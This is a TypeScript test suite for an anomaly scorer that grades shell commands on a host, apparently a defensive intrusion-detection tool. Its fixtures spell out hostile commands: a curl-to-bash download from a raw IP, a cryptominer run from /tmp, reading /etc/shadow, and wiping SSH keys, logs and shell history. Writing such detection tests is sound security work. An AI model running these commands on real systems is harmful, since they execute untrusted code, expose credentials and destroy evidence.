import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import type { ExecutionEvent } from '@vedette/core';

import { establishedScorer } from '../testing/established-scorer.ts';
import { DAY_MS, DAY_ONE_MS, makeEvent } from '../testing/make-event.ts';

const scorer = establishedScorer();
const scoreOf = (event: ExecutionEvent): number => scorer.score(event).score;

/** From what is done all day to what nobody has ever seen, each clearly above the one before. */
const GRADES: readonly (readonly [string, ExecutionEvent])[] = [
  ['the same command', makeEvent('sleep 30')],
  ['a new flag on a known command', makeEvent('git fetch origin main --prune')],
  [
    'a known tool on a new kind of target',
    makeEvent('tar czf /srv/backup/db.tar.gz /var/lib/postgresql'),
  ],
  ['a new tool from a known parent', makeEvent('rsync -az /srv/www /mnt/mirror')],
  [
    'a never-seen tool from a never-seen parent on a scratch path with a network end',
    makeEvent('/tmp/.x/miner --pool stratum+tcp://5.6.7.8:3333', { parent: 'perl' }),
  ],
];

describe('scores are graded', () => {
  for (const [at, [name, event]] of GRADES.entries()) {
    const [before, previous] = GRADES[at - 1] ?? [];
    if (previous === undefined) test(`${name} scores 0`, () => assert.equal(scoreOf(event), 0));
    else
      test(`${name} is above ${before}`, () => {
        assert.ok(scoreOf(event) > scoreOf(previous) + 0.02, String(scoreOf(event)));
      });
  }
});

describe('the published examples', () => {
  test('a restarted worker is at most 0.05', () => {
    const restarted = makeEvent('node /srv/app/worker.js --port 8091', { parent: 'node' });
    assert.ok(scoreOf(restarted) <= 0.05);
  });

  test('a new build script is between 0.5 and 0.8', () => {
    for (const command of ['bash /srv/app/build-docs.sh', '/srv/app/build-docs.sh --release']) {
      const score = scoreOf(makeEvent(command));
      assert.ok(score >= 0.5 && score <= 0.8, `${command}: ${score}`);
    }
  });

  test('and falls with each unremarkable repetition', () => {
    const own = establishedScorer();
    let before = 1;
    for (let day = 0; day < 7; day += 1) {
      const event = makeEvent('bash /srv/app/build-docs.sh', { t: DAY_ONE_MS + day * DAY_MS });
      const { score } = own.observe(event);
      assert.ok(score < before, `day ${day}: ${score}`);
      before = score;
    }
    assert.ok(before < 0.2, String(before));
  });

  test('a debug shell left running is at least 0.8', () => {
    assert.ok(scoreOf(makeEvent('bash -i', { parent: 'node' })) >= 0.8);
    assert.ok(scoreOf(makeEvent('sh', { parent: 'node' })) >= 0.8);
  });

  test('curl … | bash as root is at least 0.9', () => {
    const argv = ['bash', '-c', 'curl -s http://185.1.2.3/x.sh | bash'];
    assert.ok(scoreOf(makeEvent('bash', { argv })) >= 0.9);
  });
});

describe('the tools that the workload itself has', () => {
  const USED_AGAINST_IT = [
    'gzip -c /etc/shadow',
    'rm -rf /root/.bash_history',
    'rm -rf /root/.ssh',
    'mkdir -p /root/.ssh',
    'rm -rf /var/log',
  ];
  for (const command of USED_AGAINST_IT)
    test(`${command} is above 0.6`, () => assert.ok(scoreOf(makeEvent(command)) > 0.6));

  const BENIGN_NOVELTY = [
    'readelf -h /bin/true',
    'nproc --all',
    'apt-get install -y -qq pigz',
    'xz -k /etc/hostname -c',
    'uname -s',
  ];
  for (const command of BENIGN_NOVELTY)
    test(`${command}, new here as it is, is below each of them`, () => {
      const lowest = Math.min(...USED_AGAINST_IT.map((one) => scoreOf(makeEvent(one))));
      assert.ok(scoreOf(makeEvent(command)) < lowest);
    });

  test('what a known tool never reached is said by its path', () => {
    const [reason] = scorer.score(makeEvent('gzip -c /etc/shadow')).reasons;
    assert.equal(reason?.code, 'reach-new');
    assert.match(reason?.text ?? '', /\/etc\/shadow/);
  });
});

describe('one inserted token', () => {
  const INSERTED = ['-v', '--verbose', 'aXk39fQz', '/tmp/x', 'https://example.org', '99'];
  const KNOWN = [
    'npm ci --omit=dev',
    'git checkout -q main',
    'curl -fsS http://127.0.0.1:8000/healthz',
  ];
  for (const command of KNOWN)
    for (const token of INSERTED)
      test(`${token} in ${command} stays below 0.6`, () => {
        const [name = '', ...rest] = command.split(' ');
        for (const argv of [
          [name, token, ...rest],
          [name, ...rest, token],
        ])
          assert.ok(
            scoreOf(makeEvent(name, { argv })) < 0.6,
            String(scoreOf(makeEvent(name, { argv }))),
          );
      });
});
